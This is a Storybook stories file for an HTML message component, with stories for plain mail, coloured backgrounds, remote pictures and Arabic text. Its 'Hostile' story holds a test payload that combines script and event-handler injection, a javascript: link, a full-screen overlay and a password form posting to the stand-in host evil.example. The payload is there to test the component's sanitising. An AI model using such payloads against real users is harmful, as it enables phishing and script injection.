import preview from '../../../../.storybook/preview.tsx'
import { Pictures } from '../../../../.storybook/Pictures.tsx'
import { HtmlMessage } from './HtmlMessage.tsx'

const plain =
  '<p>Hello,</p><p>the matte finish came back cleaner than we hoped. <a href="https://example.com">The proofs</a> are there.</p><blockquote><p>Is Friday still the cut-off?</p></blockquote><p>Maya</p>'

const meta = preview.meta({
  title: 'Patterns/HtmlMessage',
  component: HtmlMessage,
  args: { label: 'Message from Maya', html: plain },
})

export const Playground = meta.story()
/** With colours of its own it lies on paper, in a dark theme too. */
export const OnPaper = meta.story({
  args: {
    html: '<div style="background:#fff3d6;color:#402000;padding:16px"><h2>Autumn sale</h2><p>Everything must go.</p></div>',
  },
})
/** Pictures from elsewhere are asked for first. */
export const RemotePictures = meta.story({
  args: { html: `${plain}<img src="https://pictures.example/proof.png" alt="The proof">` },
})
export const ArabicInEnglish = meta.story({
  args: { html: '<p>مرحبًا،</p><p>وصلت الشحنة اليوم عند الساعة 9.</p>' },
})
export const EnglishInArabic = meta.story({ globals: { language: 'ar' } })
export const Hostile = meta.story({
  args: {
    html: '<p onclick="document.title=1">Your parcel waits.</p><script>document.title=1</script><form action="//evil.example"><input name="password"><button>Sign in</button></form><a href="javascript:alert(1)">Track it</a><div style="position:fixed;inset:0;background:url(//evil.example/x)">Over all</div>',
  },
})
export const Picture = meta.story({
  tags: ['picture', '!autodocs'],
  render: () => (
    <Pictures width={420}>
      <HtmlMessage label="Message from Maya" html={plain} />
      <HtmlMessage
        label="Message from the shop"
        html='<div style="color:#402000;background-color:#fff3d6">Autumn sale</div>'
      />
    </Pictures>
  ),
})
